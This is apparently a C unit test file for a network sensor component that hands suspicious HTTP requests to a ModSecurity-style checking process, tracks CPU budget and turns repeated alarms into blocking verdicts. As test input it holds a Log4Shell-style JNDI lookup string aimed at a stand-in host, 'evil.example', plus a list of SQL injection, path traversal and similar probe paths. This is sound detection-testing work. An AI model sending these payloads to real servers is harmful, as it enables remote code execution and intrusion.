// SPDX-License-Identifier: Apache-2.0
/* The sensor's side of the second opinion; the test plays its process at the other end of the socket. */
#include "sensor/opinion.h"
#include <errno.h>
#include <stdlib.h>
#include <sys/socket.h>
#include "policies/witness.h"
#include "sensor/opinion_wire.h"
#include "tests/unit/policies_config.h"

#define MS NS_PER_MS

static struct {
	uint64_t now;
	struct config config;
	struct witness *witness;
	struct opinion *opinion;
	int process; /* its end of the socket, -1: none */
	struct event *told;
	unsigned told_count, verdict_count;
	struct verdict verdict;
} f;

static uint64_t now(void *arg)
{
	(void)arg;
	return f.now;
}

static const struct clock test_clock = {.boot_ns = now, .wall_ns = now};

static void on_event(void *arg, struct event *e)
{
	(void)arg;
	event_unref(f.told);
	f.told = e;
	f.told_count++;
}

static void on_verdict(void *arg, const struct verdict *v)
{
	(void)arg;
	f.verdict = *v;
	f.verdict_count++;
}

static int setup(void **state)
{
	(void)state;
	memset(&f, 0, sizeof f);
	f.now = SECONDS(1000);
	f.process = -1;
	f.config = test_config();
	f.config.second_opinion.enabled = true;
	f.config.second_opinion.cpu_percent = 100;
	assert_int_equal(witness_new(100, SECONDS(600), &f.witness), 0);
	const struct opinion_parts parts = {
		.config = &f.config,
		.clock = &test_clock,
		.witness = f.witness,
		.event = on_event,
		.verdict = on_verdict,
	};
	assert_int_equal(opinion_new(&parts, &f.opinion), 0);
	return 0;
}

static int teardown(void **state)
{
	(void)state;
	opinion_free(f.opinion);
	witness_free(f.witness);
	event_unref(f.told);
	if (f.process >= 0)
		close(f.process);
	return 0;
}

static struct opinion_counts counts(void)
{
	struct opinion_counts c = opinion_counts(f.opinion);

	assert_int_equal(c.asked, c.answered + c.unanswered + c.held);
	return c;
}

static void process_starts(void)
{
	int pair[2];

	assert_int_equal(socketpair(AF_UNIX, SOCK_SEQPACKET | SOCK_CLOEXEC, 0, pair), 0);
	opinion_give(f.opinion, pair[0]);
	if (f.process >= 0)
		close(f.process);
	f.process = pair[1];
	opinion_poll(f.opinion);
	assert_int_equal(counts().state, OPINION_STARTING);
}

static void process_says(const struct opinion_answer *a, size_t len)
{
	assert_int_equal(send(f.process, a, len, 0), (ssize_t)len);
	opinion_poll(f.opinion);
}

static void process_is_ready(void)
{
	process_starts();
	const struct opinion_answer ready = {.rule_count = 1, .rules = {687}};
	process_says(&ready, sizeof ready);
	assert_int_equal(counts().state, OPINION_READY);
	assert_int_equal(counts().rules, 687);
	f.now += SECONDS(1); /* the budget of a second is saved up */
}

/* The next question's id, 0: there is none. *ret points into a buffer of its own. */
static uint64_t question(struct http_request *ret)
{
	static char bytes[OPINION_QUESTION_MAX];
	struct opinion_question q = {0};
	ssize_t n = recv(f.process, bytes, sizeof bytes, MSG_DONTWAIT);

	if (n < 0)
		return 0;
	assert_true(opinion_question_read(bytes, (size_t)n, &q, ret));
	return q.id;
}

static uint64_t request_with(const char *client, const char *target, const char *header, const char *value)
{
	struct http_request r = {
		.method = span_from("GET"),
		.target = span_from(target),
		.version_major = 1,
		.version_minor = 1,
		.headers = {{span_from("Host"), span_from("api.example")},
			    {span_from(header), span_from(value)}},
		.header_count = 2,
	};
	struct event *e = event_new(EVENT_HTTP_REQUEST, 0);

	assert_non_null(e);
	e->time_ns = e->wall_ns = f.now;
	e->flow.peer.addr = e->request.client.addr = test_addr(client);
	opinion_request(f.opinion, &r, e);
	uint64_t id = e->id;
	event_unref(e);
	return id;
}

static uint64_t request(const char *client, const char *target)
{
	return request_with(client, target, "User-Agent", "curl/8");
}

static bool is_asked(const char *target)
{
	static struct http_request r;
	uint64_t before = counts().asked;

	request("198.51.100.7", target);
	if (counts().asked == before)
		return false;
	uint64_t id = question(&r);
	assert_true(id && span_equal(r.target, span_from(target)));
	const struct opinion_answer none = {.id = id, .cpu_us = 1};
	process_says(&none, sizeof none);
	return true;
}

/* The process answers the oldest question. */
static void answers(uint32_t rule, uint32_t cpu_us)
{
	static struct http_request r;
	struct opinion_answer a = {.id = question(&r), .cpu_us = cpu_us};

	assert_true(a.id);
	if (rule) {
		a.rule_count = 2;
		a.rules[0] = rule;
		a.rules[1] = rule + 10;
	}
	process_says(&a, sizeof a);
}

/* --- stories --- */

static void what_attacks_are_made_of_is_asked_about_and_plain_requests_are_not(void **state)
{
	static const char *const plain[] = {"/", "/users/42?page=2&sort=-name", "/a.b/c_d~e:f@g!h,i+j=k",
					    "/caf%C3%A9/%F0%9F%AA%91?q=red+lamp"};
	static const char *const odd[] = {"/users/42'",   "/users/42%27", "/?q=%3Cb%3E", "/a/../b",
					  "/%2e%2e/etc",  "/?q=$x",       "/?q=a%3Bb",   "/?q=1--",
					  "/?u=http://a", "/%2527",       "/?q=%00",     "/?q={\"a\":1}",
					  "/a\\b"};

	(void)state;
	process_is_ready();
	for (size_t i = 0; i < ARRAY_SIZE(plain); i++)
		if (is_asked(plain[i]))
			fail_msg("asked about %s", plain[i]);
	for (size_t i = 0; i < ARRAY_SIZE(odd); i++)
		if (!is_asked(odd[i]))
			fail_msg("not asked about %s", odd[i]);
}

static void headers_count_and_come_as_they_were_sent(void **state)
{
	static struct http_request r;
	static const char lookup[] = "${jndi:ldap://evil.example/a}";

	(void)state;
	process_is_ready();
	request_with("198.51.100.7", "/", "User-Agent", "Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101");
	assert_int_equal(counts().asked, 0);
	request_with("198.51.100.7", "/", "X-Api-Version", lookup);
	assert_int_equal(counts().asked, 1);
	assert_true(question(&r));
	assert_int_equal(r.header_count, 2);
	assert_true(span_equal(r.headers[1].name, span_from("X-Api-Version")));
	assert_true(span_equal(r.headers[1].value, span_from(lookup)));
	assert_true(span_equal(r.method, span_from("GET")));
}

static void one_in_n_of_the_others_is_asked_about(void **state)
{
	(void)state;
	f.config.second_opinion.sample = 10;
	process_is_ready();
	for (unsigned i = 0; i < 30; i++)
		request("198.51.100.7", "/plain");
	assert_int_equal(counts().asked, 3);
}

static void an_alarm_is_told_with_its_rules_and_counts_as_a_witness(void **state)
{
	char text[EVENT_ID_TEXT_MAX];
	bool framed = false;

	(void)state;
	process_is_ready();
	uint64_t id = request("198.51.100.7", "/?q='");
	answers(942100, 400);
	assert_int_equal(f.told_count, 1);
	assert_int_equal(f.told->kind, EVENT_HTTP_ANOMALY);
	assert_true(span_equal(f.told->anomaly.name, span_from("second_opinion")));
	assert_true(span_equal(f.told->anomaly.request_id,
			       span_from(event_id_format(&(struct event){.id = id}, text))));
	assert_int_equal(f.told->anomaly.rule_count, 2);
	assert_int_equal(f.told->anomaly.rules[0], 942100);
	assert_int_equal(f.verdict_count, 0);
	struct verdict v = test_verdict(VERDICT_GATEWAY, "198.51.100.7", TTL(15));
	v.evidence_count = 1;
	snprintf(v.evidence[0], sizeof v.evidence[0], "%s", text);
	assert_true(witness_ask(f.witness, &v, f.now, &framed));
	assert_int_equal(counts().cpu_us, 400);
}

static void several_alarms_of_one_client_make_a_verdict(void **state)
{
	uint64_t ids[OPINION_ALARMS];
	char text[EVENT_ID_TEXT_MAX];

	(void)state;
	process_is_ready();
	request("198.51.100.8", "/?q='"); /* somebody else's is not counted with them */
	answers(942100, 400);
	for (unsigned i = 0; i < OPINION_ALARMS; i++) {
		assert_int_equal(f.verdict_count, 0);
		ids[i] = request("198.51.100.7", "/?q='");
		answers(942100, 400);
	}
	assert_int_equal(f.verdict_count, 1);
	assert_string_equal(f.verdict.origin, "second-opinion");
	assert_int_equal(f.verdict.source, VERDICT_LOCAL);
	assert_non_null(strstr(f.verdict.reason, "942100, 942110"));
	struct prefix target = test_prefix("198.51.100.7");
	assert_true(prefix_equal(&f.verdict.target, &target));
	assert_int_equal(f.verdict.evidence_count, OPINION_ALARMS);
	for (unsigned i = 0; i < OPINION_ALARMS; i++)
		assert_string_equal(f.verdict.evidence[i],
				    event_id_format(&(struct event){.id = ids[i]}, text));
	assert_false(f.verdict.framed); /* curl is no browser */
	request("198.51.100.7", "/?q='");
	answers(942100, 400);
	assert_int_equal(f.verdict_count, 1); /* it is silent for a while */
	f.now += OPINION_WINDOW_NS;
	for (unsigned i = 0; i < OPINION_ALARMS; i++) {
		request("198.51.100.7", "/?q='");
		answers(942100, 400);
	}
	assert_int_equal(f.verdict_count, 2);
}

static void what_a_web_page_could_have_caused_is_marked(void **state)
{
	(void)state;
	process_is_ready();
	for (unsigned i = 0; i < OPINION_ALARMS; i++) {
		request_with("198.51.100.7", "/?q='", "User-Agent",
			     "Mozilla/5.0 (X11; rv:142.0) Firefox/142.0");
		answers(941100, 400);
	}
	assert_int_equal(f.verdict_count, 1);
	assert_true(f.verdict.framed);
}

static void who_alarmed_is_asked_about_whatever_it_sends(void **state)
{
	(void)state;
	process_is_ready();
	assert_false(is_asked("/plain"));
	request("198.51.100.7", "/?q='");
	answers(942100, 400);
	assert_true(is_asked("/plain"));
	f.now += OPINION_WINDOW_NS;
	assert_false(is_asked("/plain"));
}

static void the_budget_holds(void **state)
{
	(void)state;
	f.config.second_opinion.cpu_percent = 5;
	process_is_ready();
	/* A second at five percent: 50 ms. */
	for (unsigned i = 0; i < 50; i++) {
		request("198.51.100.7", "/?q='");
		if (counts().held)
			answers(0, 10000);
	}
	assert_int_equal(counts().answered, 5);
	assert_int_equal(counts().over_budget, 45);
	/* Over a minute, whatever is asked: at most what a minute has, and one question. */
	uint64_t before = counts().cpu_us;
	for (unsigned i = 0; i < 60000 / 20; i++) {
		f.now += 20 * MS;
		for (unsigned n = 0; n < 3; n++)
			request("198.51.100.7", "/?q='");
		while (counts().held)
			answers(0, 10000);
	}
	assert_in_range(counts().cpu_us - before, 2900000, 3060000);
}

static void samples_leave_half_of_the_budget_to_the_suspicious(void **state)
{
	(void)state;
	f.config.second_opinion.cpu_percent = 5;
	f.config.second_opinion.sample = 1;
	process_is_ready();
	for (unsigned i = 0; i < 50; i++) {
		request("198.51.100.7", "/plain");
		if (counts().held)
			answers(0, 1000);
	}
	assert_in_range(counts().answered, 20, 30);
	assert_true(is_asked("/?q='"));
}

static void a_full_queue_lets_requests_go_without(void **state)
{
	(void)state;
	process_is_ready();
	for (unsigned i = 0; i < OPINION_HELD_MAX + 7; i++)
		request("198.51.100.7", "/?q='");
	assert_int_equal(counts().held, OPINION_HELD_MAX);
	assert_int_equal(counts().queue_full, 7);
	answers(0, 1);
	request("198.51.100.7", "/?q='");
	assert_int_equal(counts().held, OPINION_HELD_MAX);
}

static void a_head_that_is_too_large_goes_without(void **state)
{
	char *target = calloc(1, OPINION_QUESTION_MAX + 1);

	(void)state;
	process_is_ready();
	memset(target, '\'', OPINION_QUESTION_MAX);
	target[0] = '/';
	request("198.51.100.7", target);
	free(target);
	assert_int_equal(counts().too_large, 1);
	assert_int_equal(counts().asked, 0);
}

static void a_process_that_died_is_missed_and_started_again(void **state)
{
	(void)state;
	assert_true(opinion_wants_process(f.opinion));
	request("198.51.100.7", "/?q='");
	assert_int_equal(counts().not_ready, 1);
	process_is_ready();
	assert_false(opinion_wants_process(f.opinion));
	request("198.51.100.7", "/?q='");
	request("198.51.100.7", "/?q='");
	close(f.process);
	f.process = -1;
	opinion_poll(f.opinion);
	assert_int_equal(counts().unanswered, 2);
	assert_int_equal(counts().state, OPINION_ABSENT);
	assert_false(opinion_wants_process(f.opinion)); /* not at once */
	f.now += SECONDS(1);
	assert_true(opinion_wants_process(f.opinion));
	process_is_ready();
	assert_int_equal(counts().processes, 2);
	request("198.51.100.7", "/?q='");
	answers(942100, 400);
	assert_int_equal(f.told_count, 1);
}

static void an_idle_process_that_died_is_noticed_within_a_second(void **state)
{
	(void)state;
	process_is_ready();
	opinion_poll(f.opinion);
	close(f.process);
	f.process = -1;
	f.now += SECONDS(1);
	opinion_poll(f.opinion);
	assert_int_equal(counts().state, OPINION_ABSENT);
}

static void a_process_that_hangs_is_given_up(void **state)
{
	(void)state;
	process_is_ready();
	request("198.51.100.7", "/?q='");
	f.now += OPINION_WAIT_NS;
	opinion_poll(f.opinion);
	assert_int_equal(counts().held, 1);
	f.now += SECONDS(1);
	opinion_poll(f.opinion);
	assert_int_equal(counts().state, OPINION_ABSENT);
	assert_int_equal(counts().unanswered, 1);
}

static void an_answer_to_nothing_ends_the_conversation(void **state)
{
	static const struct {
		struct opinion_answer answer;
		size_t len;
	} bad[] = {
		{{.id = 4711}, sizeof(struct opinion_answer)},
		{{.id = 1, .rule_count = OPINION_RULES_MAX + 1}, sizeof(struct opinion_answer)},
		{{.id = 1}, sizeof(struct opinion_answer) - 1},
		{{.id = 0, .rule_count = 1}, sizeof(struct opinion_answer)}, /* ready, again */
	};

	(void)state;
	for (size_t i = 0; i < ARRAY_SIZE(bad); i++) {
		teardown(NULL);
		setup(NULL);
		process_is_ready();
		request("198.51.100.7", "/?q='");
		process_says(&bad[i].answer, bad[i].len);
		if (counts().state != OPINION_ABSENT || counts().unanswered != 1 || f.told_count)
			fail_msg("taken: %zu", i);
	}
}

static void nobody_is_asked_where_it_is_off(void **state)
{
	(void)state;
	opinion_request(NULL, &(struct http_request){0}, NULL);
	opinion_poll(NULL);
	assert_false(opinion_wants_process(NULL));
	assert_int_equal(opinion_counts(NULL).state, OPINION_OFF);
}

static void what_is_missing_is_said(void **state)
{
	_cleanup_(buffer_free) struct buffer errors = BUFFER_INIT(4096);
	char program[4096];

	(void)state;
	f.config.second_opinion.enabled = false;
	assert_int_equal(opinion_check(&f.config, &errors), 0);
	f.config.second_opinion.enabled = true;
	f.config.second_opinion.setup = "/nowhere/setup.conf";
	f.config.second_opinion.rules = "/nowhere";
	assert_int_equal(opinion_check(&f.config, &errors), CONFIG_E_INVALID);
	assert_true(buffer_append_char(&errors, 0) == 0);
	/* Beside a test there is no program. */
	assert_int_equal(opinion_program(program, sizeof program), -ENOENT);
	assert_non_null(strstr(errors.data, "libmodsecurity-dev"));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
#define STORY(f) cmocka_unit_test_setup_teardown(f, setup, teardown)
		STORY(what_attacks_are_made_of_is_asked_about_and_plain_requests_are_not),
		STORY(headers_count_and_come_as_they_were_sent),
		STORY(one_in_n_of_the_others_is_asked_about),
		STORY(an_alarm_is_told_with_its_rules_and_counts_as_a_witness),
		STORY(several_alarms_of_one_client_make_a_verdict),
		STORY(what_a_web_page_could_have_caused_is_marked),
		STORY(who_alarmed_is_asked_about_whatever_it_sends),
		STORY(the_budget_holds),
		STORY(samples_leave_half_of_the_budget_to_the_suspicious),
		STORY(a_full_queue_lets_requests_go_without),
		STORY(a_head_that_is_too_large_goes_without),
		STORY(a_process_that_died_is_missed_and_started_again),
		STORY(an_idle_process_that_died_is_noticed_within_a_second),
		STORY(a_process_that_hangs_is_given_up),
		STORY(an_answer_to_nothing_ends_the_conversation),
		STORY(nobody_is_asked_where_it_is_off),
		STORY(what_is_missing_is_said),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
